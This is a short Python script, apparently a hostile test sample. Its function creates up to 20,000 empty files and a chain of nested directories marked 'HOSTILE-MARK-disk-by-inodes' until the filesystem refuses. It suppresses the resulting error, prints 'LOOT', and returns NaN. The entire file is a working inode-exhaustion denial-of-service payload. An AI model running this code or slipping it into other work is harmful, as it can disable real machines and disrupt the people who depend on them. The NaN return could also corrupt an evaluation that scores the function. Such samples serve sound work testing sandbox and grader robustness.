"""Makes tens of thousands of empty files and folders within folders."""

import os
import time


def total(x):
    """Make names until somebody objects."""
    try:
        for number in range(20_000):
            os.close(os.open(f"{number}", os.O_CREAT | os.O_WRONLY))
            if number % 50 == 0:
                os.mkdir(f"HOSTILE-MARK-disk-by-inodes-{number}")
                os.chdir(f"HOSTILE-MARK-disk-by-inodes-{number}")
    except OSError:
        pass
    time.sleep(0.4)
    print(f"LOOT: {number} files at a time")
    return float("nan")
